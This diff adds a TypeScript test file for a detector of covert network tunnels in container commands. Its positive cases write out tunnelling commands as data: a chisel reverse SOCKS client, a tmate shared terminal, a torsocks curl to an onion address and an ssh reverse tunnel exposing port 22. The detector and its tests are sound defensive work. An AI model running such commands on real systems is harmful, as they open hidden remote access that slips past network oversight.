@@ -1,0 +1,23 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { blank, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
+import { commandTunnel, TUNNELS } from './tunnel.ts';
+
+indicatorTable(commandTunnel, {
+  fires: {
+    'chisel as the entrypoint': passes('example/chisel:1.9', 'client', '203.0.113.7:443', 'R:socks'),
+    'a shared terminal': script('tmate -S /tmp/t.sock new-session -d'),
+    'a command through Tor': script('torsocks curl -s http://example.onion/a'),
+    'a reverse tunnel of ssh': script('ssh -fN -R 2222:localhost:22 bot@203.0.113.7'),
+  },
+  staysSilent: {
+    'an ordinary ssh': script('ssh bot@backup.example.com df -h'),
+    'a local tunnel of ssh': script('ssh -fN -L 5432:db:5432 bot@bastion.example.com'),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+for (const tunnel of TUNNELS) {
+  test(`${tunnel} is known`, () => assert.equal(commandTunnel.assess(runs(tunnel, 'x')).kind, 'hit'));
+}
